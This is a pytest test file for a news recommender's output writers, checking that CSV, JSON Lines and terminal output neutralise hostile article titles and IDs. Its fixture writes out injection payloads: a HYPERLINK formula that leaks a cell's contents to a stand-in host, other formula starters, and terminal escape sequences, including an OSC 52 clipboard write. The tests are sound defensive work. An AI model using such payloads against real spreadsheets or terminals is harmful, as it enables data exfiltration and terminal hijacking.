"""Outputs safe to open and exact to read back: CSV cells that cannot run as formulas, records that stay
whole, exact JSON Lines, terminal lines without escape sequences, tags that keep their characters."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import recommender as rec
from recommender._cli import main
from recommender._outputs import FORMULA_STARTS, from_spreadsheet_cell, printable, spreadsheet_cell, write_csv

#: Titles a hostile or careless newsroom export holds: formulas, a bare CR, terminal escapes, a quote.
HOSTILE_TITLES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Storm harbour news")',
    "+1 storm closes the harbour",
    "-2 ferry routes cut by the storm",
    "@SUM(1+1) harbour reopens after the storm",
    "\tTabbed storm harbour ferry",
    "Storm\rharbour ferry line",
    "'=quoted storm harbour ferry",
    "'Quoted' storm harbour ferry headline",
    "\x1b]0;owned\x07Storm \x1b[2J harbour \x1b]52;c;ZWNobyBoaQ==\x07 ferry",
]


@pytest.fixture(scope="module")
def hostile_model() -> rec.Recommender:
    n = len(HOSTILE_TITLES)
    frame = pd.DataFrame(
        {
            "article_id": [f"=cmd{i}" if i % 2 else f"h{i}" for i in range(n)],
            "title": HOSTILE_TITLES,
            "body": ["The storm closed the harbour and the ferry routes on the coast."] * n,
            "views": [10 * (i + 1) for i in range(n)],
            "published": pd.date_range("2024-05-01", periods=n, freq="D").strftime("%Y-%m-%d"),
            "tags": [["coast\x1fstorm", "-harbour"]] * n,
        }
    )
    frame["body"] = [f"{b} Item {i} of {n}: {'ferry ' * i}" for i, b in enumerate(frame["body"])]
    return rec.Recommender(min_df=1, max_df=1.0, duplicate_threshold=None).fit(frame)


def csv_records(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@given(st.text(max_size=20))
def test_spreadsheet_cells_never_start_like_a_formula_and_undo_exactly(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)  # = + - @ tab CR
    assert cell == text or cell == "'" + text
    assert from_spreadsheet_cell(cell) == text


def test_precompute_csv_neutralises_formulas_and_keeps_every_record_whole(
    hostile_model: rec.Recommender, tmp_path: Path
) -> None:
    hostile_model.save(tmp_path / "model")
    csv_path, parquet_path = tmp_path / "lists.csv", tmp_path / "lists.parquet"
    rec.precompute(tmp_path / "model", csv_path, k=8, progress=False)
    rec.precompute(tmp_path / "model", parquet_path, k=8, progress=False)
    exact = pd.read_parquet(parquet_path)
    records = csv_records(csv_path)
    header, rows = records[0], records[1:]
    assert len(rows) == len(exact) > 0  # the bare CR did not split a record
    text_columns = [c for c in exact.columns if isinstance(exact[c].iloc[0], str)]
    assert {"title", "article_id", "recommended_id"} <= set(text_columns)
    for column in text_columns:
        cells = [row[header.index(column)] for row in rows]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), column
        assert [from_spreadsheet_cell(c) for c in cells] == exact[column].tolist(), column
    titles = [row[header.index("title")] for row in rows]
    assert any(t.startswith("'=HYPERLINK") for t in titles) and "Storm\rharbour ferry line" in titles
    assert "'Quoted' storm harbour ferry headline" in titles and "''=quoted storm harbour ferry" in titles
    assert all(row[header.index("score")][0].isdigit() for row in rows)  # numbers are not touched


def test_rejected_and_flagged_reports_are_safe_and_load_back_exactly(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "article_id": ["ok-1", "ok-2", "=2+5", "+bad\rid", "ok-1", "later"],
            "title": ["Storm harbour", "Ferry harbour", "", "", "Duplicate storm", "Future ferry"],
            "body": ["storm harbour ferry", "ferry harbour storm", "", "", "storm", "ferry storm"],
            "published": ["2024-01-01", "2024-01-02", "2024-01-03", "2024-01-03", "2024-01-04", "2099-01-01"],
        }
    )
    model = rec.Recommender(min_df=1).fit(frame)
    assert {r["article_id"] for r in model.rejected_} >= {"=2+5", "+bad\rid"}
    assert model.flagged_
    model.save(tmp_path / "model")
    version = tmp_path / "model" / (tmp_path / "model" / "CURRENT").read_text().strip()
    rejected = csv_records(version / "rejected.csv")
    assert len(rejected) == 1 + len(model.rejected_)  # the CR inside an id did not add a record
    cells = [cell for row in rejected[1:] for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    loaded = rec.load_model(tmp_path / "model")
    assert loaded.rejected_ == model.rejected_ and loaded.flagged_ == model.flagged_


def test_jsonl_values_are_exact_like_parquet(hostile_model: rec.Recommender, tmp_path: Path) -> None:
    frame = hostile_model.recommend_frame(k=4)
    frame["tiny"] = np.float64(1e-20)
    frame["third"] = 1 / 3
    rec.write_lists(frame, tmp_path / "l.jsonl")
    rec.write_lists(frame, tmp_path / "l.parquet")
    exact = pd.read_parquet(tmp_path / "l.parquet")
    records = [json.loads(line) for line in (tmp_path / "l.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(records) == len(exact)
    for column in exact.columns:
        if exact[column].dtype.kind == "f":
            assert [r[column] for r in records] == exact[column].tolist(), column  # equal, not close
    assert records[0]["tiny"] == 1e-20 and records[0]["third"] == 1 / 3
    published = [r["published"] for r in records if r["published"] is not None]
    assert published and all(p.endswith("Z") and len(p) == 20 for p in published)  # ISO 8601, UTC, seconds


def test_recommend_prints_no_terminal_escapes(hostile_model: rec.Recommender, tmp_path: Path, capsys) -> None:
    hostile_model.save(tmp_path / "model")
    for article_id in hostile_model.articles_["article_id"]:
        assert main(["recommend", str(tmp_path / "model"), article_id, "-k", "8"]) == 0
    out = capsys.readouterr()
    printed = out.out + out.err
    assert "\x1b" not in printed and "\x07" not in printed and "\r" not in printed
    assert "\\x1b]0;owned\\x07Storm" in printed  # shown, escaped


def test_printable_escapes_every_control_character() -> None:
    for code in [*range(0x00, 0x09), *range(0x0A, 0x20), *range(0x7F, 0xA0), 0x202E, 0x2066]:
        shown = printable(f"a{chr(code)}b")
        assert shown.startswith("a\\") and shown.endswith("b") and chr(code) not in shown, hex(code)
    assert printable("tab\tkept, Wählen, 東京") == "tab\tkept, Wählen, 東京"
    assert printable("two\nlines", newlines=True) == "two\nlines"


def test_tags_holding_the_old_separator_survive_save_and_load(hostile_model: rec.Recommender, tmp_path: Path) -> None:
    assert hostile_model.articles_["tags"].iloc[0] == ("coast\x1fstorm", "-harbour")
    before = hostile_model.recommend_frame(k=4, min_shared_tags=2)
    hostile_model.save(tmp_path / "model")
    loaded = rec.load_model(tmp_path / "model")
    assert loaded.articles_["tags"].tolist() == hostile_model.articles_["tags"].tolist()
    pd.testing.assert_frame_equal(loaded.recommend_frame(k=4, min_shared_tags=2), before)
    assert len(before) > 0


def test_csv_escapes_text_cells_but_not_numbers() -> None:
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"title": ["=1+1", "fine"], "score": [-0.5, 0.25]}), buffer)
    assert buffer.getvalue() == "title,score\r\n'=1+1,-0.5\r\nfine,0.25\r\n"
